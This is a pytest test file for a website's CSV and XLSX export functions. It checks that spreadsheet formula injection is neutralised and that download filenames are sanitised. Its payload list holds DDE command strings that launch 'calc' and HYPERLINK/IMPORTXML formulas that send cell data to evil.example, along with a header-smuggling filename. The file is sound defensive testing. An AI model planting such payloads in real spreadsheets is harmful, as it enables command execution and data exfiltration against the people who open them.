import csv
import re
import time
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from io import BytesIO, StringIO

import pytest
from openpyxl import load_workbook

from nisn_site.kit.spreadsheets import csv_download, csv_lines, harmless, xlsx, xlsx_download
from tests.hostile.corpus import CORPUS

COMPUTE = "=+-@＝＋－＠−﹣﹢﹦﹫"
PAYLOADS = [
    *(f"{sign}1+1" for sign in COMPUTE),
    "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example?x="&A1,"click")', "-2+3+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")', "+1 (202) 555-0100", "-", "= 1", "@ana",
    " =1+1", "\t=1+1", "\r=1+1", "\r\n=1+1", "\n=1+1", "\u00a0=1+1", "\u3000＝1+1", "\ufeff=1+1", "\u200b=1+1", '"=1+1', "\x00=1+1", "\x0b=1+1",
    "x;=1+1", "x;=1+1;", "x\t=1+1", "x\n=1+1", "x\r=1+1", 'x";=1+1;"', "x; @SUM(1)",
]  # fmt: skip
KIND = [
    "ana@example.org",
    "1 + 1 = 2",
    "José Ñandú",
    "2007-07-27",
    "it's",
    "a, -b",
    "well-known",
    "'=1",
    "",
    "https://example.org/?a=b;c",
]


def cells_in_every_program(text: str) -> list[str]:
    """What programs make of it that separate by commas, by semicolons or by tabs."""
    return [cell for mark in ",;\t" for row in csv.reader(StringIO(text, newline=""), delimiter=mark) for cell in row]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_has_no_cell_that_any_spreadsheet_would_compute(payload):
    text = "".join(csv_lines([["name", payload, "end"], [payload]])).removeprefix("\ufeff")

    blanks = ' \t\r\n\u00a0\u3000\ufeff\u200b"'
    assert [cell for cell in cells_in_every_program(text) if cell.lstrip(blanks).startswith(tuple(COMPUTE))] == []


def test_without_the_apostrophes_they_would_be_computed():
    """The control: the payloads are dangerous, and the reader above sees it."""
    for payload in PAYLOADS:
        text = StringIO()
        csv.writer(text, quoting=csv.QUOTE_ALL).writerow(["name", payload.replace("\x00", "").replace("\x0b", "")])
        cells = [cell.lstrip(' \t\r\n\u00a0\u3000\ufeff\u200b"') for cell in cells_in_every_program(text.getvalue())]
        assert any(cell.startswith(tuple(COMPUTE)) for cell in cells), payload


@pytest.mark.parametrize("text", KIND)
def test_harmless_text_stays_as_it_is(text):
    assert harmless(text) == text


@pytest.mark.parametrize("run", ["\n", "\t ", '"', "; ", " ", "\u3000", "\r\n", "-", ";="])
def test_long_runs_cost_little(run):
    started = time.process_time()
    harmless(run * 100_000)
    assert time.process_time() - started < 0.5


def test_csv_writes_numbers_dates_and_nothing_as_they_are(settings):
    settings.TIME_ZONE = "America/New_York"
    row = [
        -5,
        Decimal("-1.50"),
        date(2007, 7, 27),
        datetime(2007, 7, 27, 13, 30, tzinfo=UTC),
        None,
        "a\r\nb",
        'say "no"',
    ]

    (line,) = list(csv_lines([row]))[1:]
    assert line == '"-5","-1.50","2007-07-27","2007-07-27 09:30","","a\nb","say ""no"""\r\n'


def test_csv_is_made_line_by_line():
    drawn = []

    def rows():
        for number in range(1000):
            drawn.append(number)
            yield [number]

    lines = csv_lines(rows())
    assert [next(lines), next(lines), drawn] == ["\ufeff", '"0"\r\n', [0]]


def read_back(rows) -> list[list]:
    return [list(row) for row in load_workbook(BytesIO(xlsx(rows, title="Answers"))).active.iter_rows(values_only=True)]


def test_xlsx_holds_every_payload_as_the_text_it_is():
    texts = [re.sub(r"[\x00\x0b]", "", payload).replace("\r\n", "\n").replace("\r", "\n") for payload in PAYLOADS]
    book = xlsx([["text"], *([payload] for payload in PAYLOADS)], title="Answers")

    assert read_back([["text"], *([payload] for payload in PAYLOADS)]) == [["text"], *([text] for text in texts)]
    xml = zipfile.ZipFile(BytesIO(book)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml
    assert 'quotePrefix="1"' in zipfile.ZipFile(BytesIO(book)).read("xl/styles.xml").decode()


def test_xlsx_keeps_numbers_dates_and_empty_cells():
    row = [-5, Decimal("-1.50"), datetime(2007, 7, 27, 13, 30, tzinfo=UTC), None]

    assert read_back([["a"] * 4, row]) == [["a"] * 4, [-5, -1.5, datetime(2007, 7, 27, 9, 30), None]]


def test_xlsx_marks_a_text_that_is_too_long_for_a_cell():
    (_heading, (text,)) = read_back([["a"], ["é" * 40_000]])

    assert (len(text), text[-2:]) == (32_767, "é…")


def test_xlsx_of_nothing_and_with_an_impossible_title_opens():
    assert load_workbook(BytesIO(xlsx([], title="a/b:c[d]*?\\'" + "x" * 40))).active.max_row == 1


def test_everything_anybody_typed_can_be_written_and_opened():
    rows = [[value.name, value.text] for value in CORPUS]

    assert [row[0] for row in read_back([["name", "text"], *rows])[1:]] == [value.name for value in CORPUS]
    "".join(csv_lines(rows)).encode()


def test_downloads_are_files_that_nobody_keeps():
    for response, ending in (
        (csv_download([["a"]], name="people\r\nX: 1"), "csv"),
        (xlsx_download([["a"]], name="people\r\nX: 1", title="People"), "xlsx"),
    ):
        assert response["Content-Disposition"] == f'attachment; filename="people-X-1.{ending}"'
        assert response["Cache-Control"] == "private, no-store"
